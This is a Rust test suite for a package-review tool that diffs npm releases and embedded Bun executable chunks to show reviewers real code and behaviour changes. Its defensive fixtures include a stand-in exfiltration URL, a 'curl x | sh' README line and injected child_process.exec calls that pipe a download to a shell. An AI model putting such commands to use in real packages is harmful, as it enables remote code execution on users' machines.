//! The delta a reviewer signs off: renamed bundler chunks and moved files are paired, a pure
//! re-minification is "no semantic change", a real change shows as a unified diff of the
//! pretty-printed code, text files get plain diffs, embedded `.zst` resources are decompressed,
//! behaviour changes are ranked and linked to their hunks, the Markdown stays under GitHub's
//! comment limit, and the review digest binds a delta audit to what was shown.
//! Everything is generated here (Bun-like executables in the layout of `StandaloneModuleGraph.zig`).
use std::path::Path;
use vetted::cli::{Outcome, main_from_args};
use vetted::content::manifest::BehaviourKind;
use vetted::diff::{self, CodeStatus, Contents, ReviewReport};

mod review_support;
use review_support::*;

fn embedded(r: &ReviewReport) -> &diff::Counts {
    &r.review.embedded
}

#[test]
fn reminified_chunks_are_paired_and_show_no_semantic_change() {
    let b = Build::new();
    let r = diff_files(&v1(&b), &v2_reminified(&b));
    let e = embedded(&r);
    assert_eq!((e.unpaired_added, e.unpaired_removed), (0, 0), "{e:?}");
    assert_eq!(e.renamed_and_changed, 2, "{e:?}");
    // cli.js changed in place (it names the new app chunk), the two chunks were renamed.
    assert_eq!(e.no_semantic_change, 3, "{:#?}", r.files.changed);
    assert_eq!(e.changed, 0);
    let app = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path.ends_with("app-cccc3333.js"))
        .expect("app paired");
    assert_eq!(app.old_path, "package/tool!/$bunfs/root/app-aaaa1111.js");
    assert!(app.similarity.is_some_and(|s| s.as_f64() > 0.9));
    assert_eq!(
        app.code.as_ref().map(|c| c.status),
        Some(CodeStatus::NoSemanticChange)
    );
    // The guide moved: one entry under files.moved, not an add and a remove.
    assert_eq!(r.files.moved.len(), 1);
    assert_eq!(r.files.moved[0].old_path, "package/docs/guide.md");
    assert_eq!(r.files.moved[0].new_path, "package/guide.md");
    assert!(
        r.files.added.is_empty() && r.files.removed.is_empty(),
        "{:?}",
        r.files
    );
}

#[test]
fn changed_url_in_a_renamed_chunk_shows_as_a_hunk() {
    let b = Build::new();
    let old = v1(&b);
    let exe = executable(&[
        (
            "/$bunfs/root/cli.js",
            b"import\"/$bunfs/root/app-eeee5555.js\";",
        ),
        (
            "/$bunfs/root/lib-dddd4444.js",
            &lib("1.0.1", ("Zq", "Yw", "Xe")),
        ),
        (
            "/$bunfs/root/app-eeee5555.js",
            &app(
                "1.0.1",
                "lib-dddd4444.js",
                "Zq",
                "https://collect.evil.example/x",
            ),
        ),
        (
            "/$bunfs/root/README-1a2b3c4d.md.zst",
            &zst("# Tool\n\nUse it well.\n"),
        ),
    ]);
    let new = b.write(
        "v3.tgz",
        &tgz(&[
            ("package/package.json", &pkg("1.0.1")),
            ("package/tool", &exe),
        ]),
    );
    let r = diff_files(&old, &new);
    let app = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path.ends_with("app-eeee5555.js"))
        .expect("app paired despite the change");
    let code = app.code.as_ref().expect("compared");
    assert_eq!(code.status, CodeStatus::Changed);
    assert_eq!(code.compared_as, Some("javascript"));
    assert_eq!(
        (code.diff.added_lines, code.diff.removed_lines),
        (1, 1),
        "{code:#?}"
    );
    let lines: Vec<&String> = code.diff.hunks.iter().flat_map(|h| &h.lines).collect();
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with('+') && l.contains("collect.evil.example"))
    );
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with('-') && l.contains("api.acme.example"))
    );
    // Shown with the names as written in the new build (pretty-printed, one statement a line).
    assert!(lines.iter().any(|l| l.contains("Zq")), "{lines:?}");
}

/// An attacker re-points an import at the other export of the same (paired) module: same code
/// shape, same names after renaming, but now it calls the function that deletes files.
#[test]
fn import_of_a_different_export_is_a_semantic_change() {
    let b = Build::new();
    let old = v1(&b);
    let exe = executable(&[
        (
            "/$bunfs/root/cli.js",
            b"import\"/$bunfs/root/app-cccc3333.js\";",
        ),
        (
            "/$bunfs/root/lib-dddd4444.js",
            &lib("1.0.1", ("Zq", "Yw", "Xe")),
        ),
        (
            "/$bunfs/root/app-cccc3333.js",
            &app("1.0.1", "lib-dddd4444.js", "Yw", URL),
        ),
    ]);
    let new = b.write(
        "v4.tgz",
        &tgz(&[
            ("package/package.json", &pkg("1.0.1")),
            ("package/tool", &exe),
        ]),
    );
    let r = diff_files(&old, &new);
    let app = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path.ends_with("app-cccc3333.js"))
        .expect("paired");
    assert_eq!(
        app.code.as_ref().map(|c| c.status),
        Some(CodeStatus::Changed),
        "{:#?}",
        app.code
    );
}

/// The benign twin: the same import under a minifier's new names is not a change.
#[test]
fn import_of_the_same_export_under_new_names_is_no_change() {
    let b = Build::new();
    let r = diff_files(&v1(&b), &v2_reminified(&b));
    let app = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path.ends_with("app-cccc3333.js"))
        .expect("paired");
    assert_eq!(
        app.code.as_ref().map(|c| c.status),
        Some(CodeStatus::NoSemanticChange)
    );
}

#[test]
fn text_files_get_plain_unified_diffs_and_zst_is_decompressed() {
    let b = Build::new();
    let old = v1(&b);
    let exe = executable(&[
        (
            "/$bunfs/root/cli.js",
            b"import\"/$bunfs/root/app-aaaa1111.js\";",
        ),
        (
            "/$bunfs/root/lib-bbbb2222.js",
            &lib("1.0.0", ("kMi", "Udl", "fR")),
        ),
        (
            "/$bunfs/root/app-aaaa1111.js",
            &app("1.0.0", "lib-bbbb2222.js", "kMi", URL),
        ),
        (
            "/$bunfs/root/README-1a2b3c4d.md.zst",
            &zst("# Tool\n\nUse it well.\nRun `curl x | sh` first.\n"),
        ),
    ]);
    let new = b.write(
        "v5.tgz",
        &tgz(&[
            ("package/package.json", &pkg("1.0.1")),
            ("package/tool", &exe),
            (
                "package/types/index.d.ts",
                b"export declare function run(a: string, token: string): void;\n",
            ),
            ("package/docs/guide.md", b"# Guide\n\nSome text.\n"),
        ]),
    );
    let r = diff_files(&old, &new);
    let find = |p: &str| {
        r.files
            .changed
            .iter()
            .find(|c| c.new_path == p)
            .and_then(|c| c.code.clone())
            .unwrap_or_else(|| panic!("{p} not compared: {:#?}", r.files.changed))
    };
    for p in ["package/package.json", "package/types/index.d.ts"] {
        let c = find(p);
        assert_eq!(
            (c.status, c.compared_as),
            (CodeStatus::Changed, Some("text"))
        );
        assert!(!c.diff.hunks.is_empty());
    }
    let readme = find("package/tool!/$bunfs/root/README-1a2b3c4d.md.zst");
    assert!(
        readme
            .diff
            .hunks
            .iter()
            .flat_map(|h| &h.lines)
            .any(|l| l == "+Run `curl x | sh` first."),
        "{readme:#?}"
    );
}

#[test]
fn corrupt_zst_resource_is_not_shown_with_a_reason() {
    let r = vetted::diff::contents::decompress_zst(b"\x28\xb5\x2f\xfd garbage");
    assert!(r.is_err());
    assert!(vetted::diff::contents::decompress_zst(&zst("ok")).is_ok_and(|b| b == b"ok"));
}

#[test]
fn behaviour_changes_are_ranked_by_risk_and_link_to_their_hunk() {
    let common = common_code();
    let old_js = format!("{common}export function b(){{return fetch('https://a.example')}}\n");
    let new_js = format!(
        "{common}export function b(){{return fetch('https://a.example')}}\nexport function c(){{require('child_process').exec('curl https://x.example | sh')}}\n"
    );
    let (old_js, new_js) = (old_js.as_bytes(), new_js.as_bytes());
    let old_p = "package/tool!/$bunfs/root/m-11111111.js";
    let new_p = "package/tool!/$bunfs/root/m-22222222.js";
    let old = manifest_with(
        vec![(
            old_p,
            entry(
                old_js,
                vec![behaviour(BehaviourKind::Network, "fetch", &[])],
            ),
        )],
        "old",
    );
    let new = manifest_with(
        vec![(
            new_p,
            entry(
                new_js,
                vec![
                    behaviour(BehaviourKind::Network, "fetch", &[]),
                    behaviour(BehaviourKind::Url, "https://x.example", &[]),
                    behaviour(
                        BehaviourKind::ProcessSpawn,
                        "curl https://x.example | sh",
                        &["shell", "suspicious-command"],
                    ),
                ],
            ),
        )],
        "new",
    );
    let mut oc = Contents::default();
    oc.insert(old_p, old_js.to_vec());
    let mut nc = Contents::default();
    nc.insert(new_p, new_js.to_vec());
    let r = diff::diff_with("old", &old, Some(&oc), "new", &new, Some(&nc));
    let bc = &r.review.behaviour_changes;
    assert_eq!(bc.len(), 2, "{bc:#?}");
    assert_eq!(bc[0].behaviour.kind, BehaviourKind::ProcessSpawn);
    assert!(bc[0].risk > bc[1].risk);
    assert_eq!(bc[0].path, new_p);
    assert_eq!(bc[0].old_path.as_deref(), Some(old_p));
    assert_eq!(bc[0].hunk, Some(0), "the hunk that adds the spawn");
    // Unchanged behaviours (fetch, in both) are not news.
    assert!(
        bc.iter()
            .all(|b| b.behaviour.kind != BehaviourKind::Network)
    );
    let human = diff::render_human(&r, false);
    let first = human.find("process-spawn").expect("listed");
    assert!(
        first < human.find("Signals").expect("signals"),
        "decisions first:\n{human}"
    );
}

#[test]
fn markdown_stays_under_the_github_comment_limit() {
    let mut old_entries = Vec::new();
    let mut new_entries = Vec::new();
    let names: Vec<(String, String, Vec<u8>, Vec<u8>)> = (0..3000)
        .map(|i| {
            (
                format!("package/tool!/$bunfs/root/chunk-{i:08}.js"),
                format!("package/tool!/$bunfs/root/chunk-{:08}.js", i + 100_000),
                format!("export const v{i}='{}';", "a".repeat(50)).into_bytes(),
                format!("export const v{i}='{}';", "b".repeat(50)).into_bytes(),
            )
        })
        .collect();
    for (op, np, ob, nb) in &names {
        old_entries.push((
            op.as_str(),
            entry(ob, vec![behaviour(BehaviourKind::Url, op, &[])]),
        ));
        new_entries.push((
            np.as_str(),
            entry(
                nb,
                vec![behaviour(BehaviourKind::EnvRead, np, &["credential"])],
            ),
        ));
    }
    let old = manifest_with(old_entries, "old");
    let new = manifest_with(new_entries, "new");
    let r = diff::diff("old", &old, "new", &new);
    let md = diff::render_markdown(&r, Some("the review-page artifact"));
    assert!(md.chars().count() < 65_536, "{} chars", md.chars().count());
    assert!(md.contains("the review-page artifact"));
    assert!(md.contains("more in"));
}

#[test]
fn review_digest_ignores_labels_and_sees_content() {
    let b = Build::new();
    let (o, n) = (v1(&b), v2_reminified(&b));
    let a = diff_files(&o, &n);
    let (om, nm) = (inspect(&o), inspect(&n));
    let relabelled = {
        let (wo, wn) = diff::delta::wanted_paths(&om, &nm);
        let oc = diff::contents::read(Path::new(&o), &om, &wo);
        let nc = diff::contents::read(Path::new(&n), &nm, &wn);
        diff::diff_with("ledger:x@1", &om, Some(&oc), "npm:x@2", &nm, Some(&nc))
    };
    assert_eq!(a.digest(), relabelled.digest());
    let digests_only = diff::diff("a", &om, "b", &nm);
    assert_ne!(a.digest(), digests_only.digest(), "what was shown differs");
}

fn run(args: &[&str]) -> Outcome {
    main_from_args(std::iter::once("vetted").chain(args.iter().copied()))
}

#[test]
fn show_prints_modules_resources_and_pretty_code() {
    let b = Build::new();
    let v1 = v1(&b);
    let cache = b.dir.path().join("cache");
    let cache = cache.to_string_lossy();
    let out = b.dir.path().join("out.json");
    // In-process: check the exit codes; the bytes are checked through the JSON form below.
    for (path, pretty, want) in [
        (
            "package/tool!/$bunfs/root/README-1a2b3c4d.md.zst",
            false,
            Outcome::Success,
        ),
        (
            "package/tool!/$bunfs/root/app-aaaa1111.js",
            true,
            Outcome::Success,
        ),
        ("package/types/index.d.ts", false, Outcome::Success),
        ("package/nope.js", false, Outcome::Error),
    ] {
        let mut args = vec!["show", &v1, path, "--json", "--cache-dir", &cache];
        if pretty {
            args.push("--pretty");
        }
        assert_eq!(run(&args), want, "{path}");
    }
    let _ = out;
    let bin = env!("CARGO_BIN_EXE_vetted");
    let show = |path: &str, pretty: bool| {
        let mut c = std::process::Command::new(bin);
        c.args(["show", &v1, path, "--cache-dir", &cache]);
        if pretty {
            c.arg("--pretty");
        }
        let o = c.output().expect("run vetted");
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8(o.stdout).expect("utf8")
    };
    assert_eq!(
        show("package/tool!/$bunfs/root/README-1a2b3c4d.md.zst", false),
        "# Tool\n\nUse it well.\n"
    );
    let pretty = show("package/tool!/$bunfs/root/app-aaaa1111.js", true);
    assert!(pretty.lines().count() > 3, "{pretty}");
    assert!(pretty.contains("fetch(\"https://api.acme.example/v1\")"));
}

#[test]
fn diff_command_writes_json_v2_and_the_page() {
    let b = Build::new();
    let (o, n) = (v1(&b), v2_reminified(&b));
    let page = b.dir.path().join("page.html");
    let cache = b.dir.path().join("cache");
    let bin = env!("CARGO_BIN_EXE_vetted");
    let out = std::process::Command::new(bin)
        .args(["diff", &o, &n, "--json", "--html"])
        .arg(&page)
        .arg("--cache-dir")
        .arg(&cache)
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["schema"], "vetted.diff/v2");
    let moved = &v["files"]["moved"][0];
    assert_eq!(moved["old_path"], "package/docs/guide.md");
    assert_eq!(moved["similarity"], 1.0);
    let changed = v["files"]["changed"].as_array().expect("changed");
    assert!(changed.iter().any(|c| c["old_path"] != c["new_path"]
        && c["code"]["status"] == "no-semantic-change"
        && c["similarity"].as_f64().is_some_and(|s| s > 0.5)));
    let html = std::fs::read_to_string(&page).expect("page");
    assert!(html.contains("--delta-from 1.0.0 --review sha256:"));
    assert!(
        !html.contains("http://") && !html.contains("src=\"http"),
        "no external assets"
    );
}

/// Many small chunks that differ only in what they re-export have one canonical form; paired by
/// name order they were cross-paired, and each wrong pair showed a one-line import diff. Old and
/// new hashes are drawn in opposite orders here, so the name tie-break alone pairs them wrongly.
#[test]
fn re_export_chunks_are_not_cross_paired_by_name_order() {
    const N: usize = 8;
    let build = |version: &str, new: bool| -> Vec<u8> {
        // Hash i of a chunk family: increasing with i in the old build, decreasing in the new.
        let h = |family: char, i: usize| {
            let k = if new { 50 + (N - i) } else { 10 + i };
            format!("{family}{k:02}{}", if new { "bbbbb" } else { "aaaaa" })
        };
        let mut modules: Vec<(String, Vec<u8>)> = Vec::new();
        // One library chunk with N exports (re-minified names in the new build).
        let lib_names: Vec<String> = (0..N)
            .map(|i| format!("{}{i}", if new { "q" } else { "k" }))
            .collect();
        let lib_path = format!("/$bunfs/root/lib-{}.js", h('l', 0));
        let mut lib = format!("// Version: {version}\n");
        for (i, n) in lib_names.iter().enumerate() {
            lib.push_str(&format!("function {n}(x){{return x*{i}+{}}}", i * 7));
        }
        lib.push_str(&format!("export{{{}}};\n", lib_names.join(",")));
        modules.push((lib_path.clone(), lib.into_bytes()));
        for (i, lib_name) in lib_names.iter().enumerate() {
            // Target chunks, distinct code each.
            let t = format!("/$bunfs/root/t-{}.js", h('t', i));
            let name = if new { "z" } else { "y" };
            modules.push((
                t.clone(),
                format!("export function {name}(){{return \"target {i}\"}}").into_bytes(),
            ));
            // A chunk that re-exports the target (import + export form) ...
            modules.push((
                format!("/$bunfs/root/r-{}.js", h('r', i)),
                format!("import{{{name} as a}}from\"{t}\";export{{a}};").into_bytes(),
            ));
            // ... and one that re-exports the i-th export of the library (export-from form).
            modules.push((
                format!("/$bunfs/root/s-{}.js", h('s', i)),
                format!("export{{{lib_name} as b}}from\"{lib_path}\";").into_bytes(),
            ));
        }
        let refs: Vec<(&str, &[u8])> = modules
            .iter()
            .map(|(p, b)| (p.as_str(), b.as_slice()))
            .collect();
        executable(&refs)
    };
    let b = Build::new();
    let old = b.write(
        "re1.tgz",
        &tgz(&[
            ("package/package.json", &pkg("1.0.0")),
            ("package/tool", &build("1.0.0", false)),
        ]),
    );
    let new = b.write(
        "re2.tgz",
        &tgz(&[
            ("package/package.json", &pkg("1.0.1")),
            ("package/tool", &build("1.0.1", true)),
        ]),
    );
    let r = diff_files(&old, &new);
    let e = embedded(&r);
    assert_eq!((e.unpaired_added, e.unpaired_removed), (0, 0), "{e:?}");
    // Every pair is the same program under new names: nothing to review.
    assert_eq!(e.changed, 0, "{:#?}", r.files.changed);
    assert_eq!(e.no_semantic_change as usize, 3 * N + 1, "{e:?}");
    // And each re-export chunk is paired with its own counterpart (the i-th old with the i-th new).
    let index = |p: &str| -> usize {
        let k: usize = p.rsplit('-').next().unwrap()[1..3].parse().unwrap();
        if k >= 50 { N - (k - 50) } else { k - 10 }
    };
    for c in &r.files.changed {
        if c.new_path.contains("/r-") || c.new_path.contains("/s-") || c.new_path.contains("/t-") {
            assert_eq!(
                index(&c.old_path),
                index(&c.new_path),
                "{} paired with {}",
                c.old_path,
                c.new_path
            );
        }
    }
}

/// A chunk of many functions, re-minified, with one function added at the top: every later
/// binding is renumbered, and the reviewer must still see only the added function, not every
/// line of the chunk as removed and added again.
#[test]
fn an_added_declaration_does_not_renumber_the_rest_of_the_chunk() {
    let b = Build::new();
    let body = |names: &[String], extra: &str| {
        let mut s = String::from("// @bun\n");
        s.push_str(extra);
        for (i, n) in names.iter().enumerate() {
            s.push_str(&format!(
                "function {n}(a,b){{let c=a.k{i}+b;if(c>{i})return c*2;return a.m{i}(c)}}"
            ));
        }
        s.push_str(&format!("export{{{}}};\n", names.join(",")));
        s.into_bytes()
    };
    let old_names: Vec<String> = (0..40).map(|i| format!("o{i}")).collect();
    let new_names: Vec<String> = (0..40).map(|i| format!("N{i}x")).collect();
    let write = |name: &str, chunk: &str, code: &[u8], v: &str| {
        let exe = executable(&[
            (
                "/$bunfs/root/cli.js",
                format!("import\"/$bunfs/root/{chunk}\";").as_bytes(),
            ),
            (&format!("/$bunfs/root/{chunk}"), code),
        ]);
        b.write(
            name,
            &tgz(&[("package/package.json", &pkg(v)), ("package/tool", &exe)]),
        )
    };
    let old = write("a.tgz", "big-aaaa1111.js", &body(&old_names, ""), "1.0.0");
    let new = write(
        "b.tgz",
        "big-bbbb2222.js",
        &body(
            &new_names,
            "var Q7=globalThis.fetch;function Zz(u){return Q7(u)}",
        ),
        "1.0.1",
    );
    let r = diff_files(&old, &new);
    let big = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path.ends_with("big-bbbb2222.js"))
        .expect("paired");
    let code = big.code.as_ref().expect("compared");
    assert_eq!(code.status, CodeStatus::Changed);
    // The added `var` and function (a few pretty-printed lines), and the export list; not the
    // 40 functions (over 200 lines) that were only renumbered.
    assert!(
        code.diff.added_lines <= 8 && code.diff.removed_lines <= 2,
        "{code:#?}"
    );
    let lines: Vec<&String> = code.diff.hunks.iter().flat_map(|h| &h.lines).collect();
    assert!(
        lines.iter().any(|l| l.starts_with('+') && l.contains("Q7")),
        "{lines:?}"
    );
}

/// The library's exports were re-drawn and one was added in front (every export position
/// shifted): the app importing the same binding under its new name is no semantic change.
#[test]
fn importing_the_same_binding_under_a_redrawn_export_name_is_no_change() {
    let b = Build::new();
    let old = v1(&b);
    let lib2 = "// @bun\n// Version: 1.0.1\nimport {rmSync as Xe} from \"node:fs\";function Pp(){return 1}function Zq(n){return n.trim().split(\",\")}function Yw(p){Xe(p,{recursive:true})}export{Pp,Zq,Yw};\n";
    let exe = executable(&[
        (
            "/$bunfs/root/cli.js",
            b"import\"/$bunfs/root/app-cccc3333.js\";",
        ),
        ("/$bunfs/root/lib-dddd4444.js", lib2.as_bytes()),
        (
            "/$bunfs/root/app-cccc3333.js",
            &app("1.0.1", "lib-dddd4444.js", "Zq", URL),
        ),
        (
            "/$bunfs/root/README-1a2b3c4d.md.zst",
            &zst("# Tool\n\nUse it well.\n"),
        ),
    ]);
    let new = b.write(
        "v5.tgz",
        &tgz(&[
            ("package/package.json", &pkg("1.0.1")),
            ("package/tool", &exe),
        ]),
    );
    let r = diff_files(&old, &new);
    let find = |suffix: &str| {
        r.files
            .changed
            .iter()
            .find(|c| c.new_path.ends_with(suffix))
            .and_then(|c| c.code.as_ref())
            .map(|c| c.status)
    };
    assert_eq!(find("lib-dddd4444.js"), Some(CodeStatus::Changed));
    assert_eq!(
        find("app-cccc3333.js"),
        Some(CodeStatus::NoSemanticChange),
        "{:#?}",
        r.files.changed
    );
}

/// Strings that look like the names the canonical printing introduces (`@@0`, `@@1`) must not
/// be renamed like bindings: an attacker who changes such a string, and re-minifies, is still
/// shown the change.
#[test]
fn strings_shaped_like_canonical_names_are_not_renamed_away() {
    let b = Build::new();
    let write = |name: &str, chunk: &str, code: &str, v: &str| {
        let exe = executable(&[
            (
                "/$bunfs/root/cli.js",
                format!("import\"/$bunfs/root/{chunk}\";").as_bytes(),
            ),
            (&format!("/$bunfs/root/{chunk}"), code.as_bytes()),
        ]);
        b.write(
            name,
            &tgz(&[("package/package.json", &pkg(v)), ("package/tool", &exe)]),
        )
    };
    let old = write(
        "a.tgz",
        "m-aaaa1111.js",
        "let a=1,b=2;function f(x){return x+a}export{f};f(\"@@7\");f(\"@@q1\");\n",
        "1.0.0",
    );
    let new = write(
        "b.tgz",
        "m-bbbb2222.js",
        "let c=1,d=2;function g(y){return y+c}export{g};g(\"@@8\");g(\"@@q1\");\n",
        "1.0.1",
    );
    let r = diff_files(&old, &new);
    let m = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path.ends_with("m-bbbb2222.js"))
        .expect("paired");
    let code = m.code.as_ref().expect("compared");
    assert_eq!(code.status, CodeStatus::Changed, "{code:#?}");
    assert_eq!(
        (code.diff.added_lines, code.diff.removed_lines),
        (1, 1),
        "{code:#?}"
    );
}

/// `vetted diff` takes the bytes it shows from what the inspection kept instead of inflating
/// the artifact again: the review must be the same as from the bytes read again, and a kept
/// byte that does not match the manifest (a reader that saw the archive differently) is refused.
#[test]
fn kept_bytes_give_the_review_of_the_bytes_read_again() {
    use vetted::content::{InspectOptions, inspect_file_keeping};
    let b = Build::new();
    let (old, new) = (v1(&b), v2_reminified(&b));
    let opts = InspectOptions {
        limits: vetted::limits::Limits::default(),
        expect_archive: true,
    };
    let (om, ok) = inspect_file_keeping(Path::new(&old), &opts, None).expect("inspect old");
    let (nm, nk) = inspect_file_keeping(Path::new(&new), &opts, None).expect("inspect new");
    let (mut ok, mut nk) = (ok.expect("tgz keeps"), nk.expect("tgz keeps"));
    let (wo, wn) = diff::delta::wanted_paths(&om, &nm);
    let oc = diff::contents::from_kept(&om, &mut ok, &wo).expect("everything kept");
    let nc = diff::contents::from_kept(&nm, &mut nk, &wn).expect("everything kept");
    assert!(
        oc.notes.is_empty() && nc.notes.is_empty(),
        "{:?} {:?}",
        oc.notes,
        nc.notes
    );
    assert!(oc.len() >= 3 && nc.len() >= 3, "{} {}", oc.len(), nc.len());
    let kept = diff::diff_with(&old, &om, Some(&oc), &new, &nm, Some(&nc));
    let read = diff_files(&old, &new);
    assert_eq!(kept.digest(), read.digest());
    // A manifest that lists other bytes for the package.json: the kept bytes are refused.
    let (_, k2) = inspect_file_keeping(Path::new(&new), &opts, None).expect("inspect new");
    let mut k2 = k2.expect("tgz keeps");
    let mut forged = nm.clone();
    let pj = "package/package.json";
    let other = inspect(&old).entries.get(pj).expect("package.json").clone();
    forged.entries.insert(pj.to_string(), other);
    let want: std::collections::BTreeSet<&str> = [pj].into_iter().collect();
    let c = diff::contents::from_kept(&forged, &mut k2, &want).expect("kept");
    assert!(c.get(pj).is_none());
    assert!(
        c.notes.iter().any(|n| n.contains("do not match")),
        "{:?}",
        c.notes
    );
}

/// An inspection that reuses a cached one of the same artifact (`docs/inspection-cache.md`)
/// parses none of its code again (embedded modules included), keeps the cached facts, and
/// gives the same manifest and the same review.
#[test]
fn an_inspection_reusing_the_cached_one_gives_the_same_manifest_and_review() {
    use vetted::content::{InspectOptions, inspect_file_keeping, inspection_cache};
    let b = Build::new();
    let (old, new) = (v1(&b), v2_reminified(&b));
    let opts = InspectOptions {
        limits: vetted::limits::Limits::default(),
        expect_archive: true,
    };
    let cache = b.dir.path().join("cache");
    let js = &opts.limits.js;
    let review = |reuse: bool| {
        let mut sides = Vec::new();
        for a in [&old, &new] {
            let r = reuse.then(|| {
                let (m, k) = inspect_file_keeping(Path::new(a), &opts, None).expect("inspect");
                inspection_cache::store(&cache, &m, &k.expect("tgz keeps")).expect("store");
                inspection_cache::load(&cache, &m.artifact.sha512, js).expect("load")
            });
            let (m, k) = inspect_file_keeping(Path::new(a), &opts, r).expect("inspect");
            sides.push((m, k.expect("tgz keeps")));
        }
        let [(om, mut ok), (nm, mut nk)]: [_; 2] = sides.try_into().expect("two sides");
        let facts = ok.facts_held() + nk.facts_held();
        let (wo, wn) = diff::delta::wanted_paths(&om, &nm);
        let oc = diff::contents::from_kept(&om, &mut ok, &wo).expect("kept");
        let nc = diff::contents::from_kept(&nm, &mut nk, &wn).expect("kept");
        let digest = diff::diff_with(&old, &om, Some(&oc), &new, &nm, Some(&nc)).digest();
        (
            serde_json::to_string(&om).expect("json"),
            serde_json::to_string(&nm).expect("json"),
            facts,
            digest,
        )
    };
    let fresh = review(false);
    assert!(fresh.2 >= 4, "{} facts", fresh.2);
    assert_eq!(review(true), fresh);
}

/// A zstd frame under a `.js` name (Claude Code's `mermaid.min.js`) is reviewed as the code it
/// holds: a change in it is a code diff and a behaviour change, not "binary".
#[test]
fn zstd_compressed_js_module_is_reviewed_as_code_not_binary() {
    let b = Build::new();
    let build = |version: &str, body: &str| {
        let exe = executable(&[
            (
                "/$bunfs/root/cli.js",
                b"import\"/$bunfs/root/mermaid.min.js\";",
            ),
            ("/$bunfs/root/mermaid.min.js", &zst(body)),
        ]);
        b.write(
            &format!("{version}.tgz"),
            &tgz(&[
                ("package/package.json", &pkg(version)),
                ("package/tool", &exe),
            ]),
        )
    };
    let old = build("1.0.0", "export function draw(n){return n*2}\n");
    let new = build(
        "1.0.1",
        "export function draw(n){require('child_process').exec('curl https://x.example | sh');return n*2}\n",
    );
    let r = diff_files(&old, &new);
    let path = "package/tool!/$bunfs/root/mermaid.min.js";
    let c = r
        .files
        .changed
        .iter()
        .find(|c| c.new_path == path)
        .and_then(|c| c.code.clone())
        .unwrap_or_else(|| panic!("{path} not compared: {:#?}", r.files.changed));
    assert_eq!(
        (c.status, c.compared_as),
        (CodeStatus::Changed, Some("javascript"))
    );
    assert!(
        c.diff
            .hunks
            .iter()
            .flat_map(|h| &h.lines)
            .any(|l| l.starts_with('+') && l.contains("child_process")),
        "{c:#?}"
    );
    assert!(
        r.review
            .behaviour_changes
            .iter()
            .any(|bc| bc.path == path && bc.behaviour.kind == BehaviourKind::ProcessSpawn),
        "{:#?}",
        r.review.behaviour_changes
    );
}

/// A module whose analysis is cut short (a limit, a syntax error) has behaviours nobody saw:
/// "no behaviour change" would be a false all-clear. The delta lists such new or changed code
/// first, for the reviewer to read; code that did not change is not listed again.
#[test]
fn code_the_analysis_could_not_read_in_full_is_listed_for_the_reviewer() {
    let b = Build::new();
    // More distinct URLs than limits.js.behaviours_per_module (2,000): the walk stops.
    let many: String = (0..2_100)
        .map(|i| format!("'https://h{i}.example/'"))
        .collect::<Vec<_>>()
        .join(",");
    let flood = format!("export const hosts=[{many}];\n");
    let build = |version: &str, files: &[(&str, &[u8])]| {
        let p = pkg(version);
        let mut all: Vec<(&str, &[u8])> = vec![("package/package.json", &p)];
        all.extend_from_slice(files);
        let bytes = tgz(&all);
        b.write(&format!("{version}.tgz"), &bytes)
    };
    let old = build(
        "1.0.0",
        &[
            (
                "package/hosts.js",
                b"export const hosts=['https://a.example/'];\n",
            ),
            ("package/legacy.js", b"function ( {\n"),
        ],
    );
    let new = build(
        "1.0.1",
        &[
            ("package/hosts.js", flood.as_bytes()),
            ("package/legacy.js", b"function ( {\n"),
            (
                "package/broken.js",
                b"require('child_process').exec(x) )(\n",
            ),
        ],
    );
    let r = diff_files(&old, &new);
    let gaps: Vec<(&str, &str)> = r
        .review
        .analysis_gaps
        .iter()
        .map(|g| (g.path.as_str(), g.reason.as_str()))
        .collect();
    assert_eq!(gaps.len(), 2, "{gaps:#?}");
    assert_eq!(gaps[0].0, "package/broken.js");
    assert!(gaps[0].1.starts_with("parse error "), "{gaps:?}");
    assert_eq!(gaps[1].0, "package/hosts.js");
    assert!(gaps[1].1.contains("stopped at a limit"), "{gaps:?}");
    // The unchanged unparsable file is not listed again.
    assert!(!gaps.iter().any(|g| g.0 == "package/legacy.js"));
    // Every rendering leads with it.
    let md = vetted::diff::render_markdown(&r, None);
    assert!(md.contains("Not fully analysed (2)"), "{md}");
    assert!(
        vetted::diff::summary(&r)
            .iter()
            .any(|l| l.contains("2 new or changed module(s) not fully analysed"))
    );
    let human = vetted::diff::render_human(&r, false);
    assert!(human.contains("Not fully analysed (2)"), "{human}");
    let page = vetted::diff::html::render(&r, "x");
    let (gap_at, bc_at) = (
        page.find("id=\"analysis-gaps\"").expect("gap section"),
        page.find("Behaviour changes (").expect("behaviour section"),
    );
    assert!(gap_at < bc_at && page.contains("package/broken.js"));
    let json = serde_json::to_value(&r).unwrap();
    assert_eq!(
        json["review"]["analysis_gaps"][0]["path"],
        "package/broken.js"
    );
    // A delta with nothing unread carries no such field (review digests of such deltas stay).
    let again = diff_files(&old, &old);
    assert!(again.review.analysis_gaps.is_empty());
    assert!(
        serde_json::to_value(&again).unwrap()["review"]
            .get("analysis_gaps")
            .is_none()
    );
}
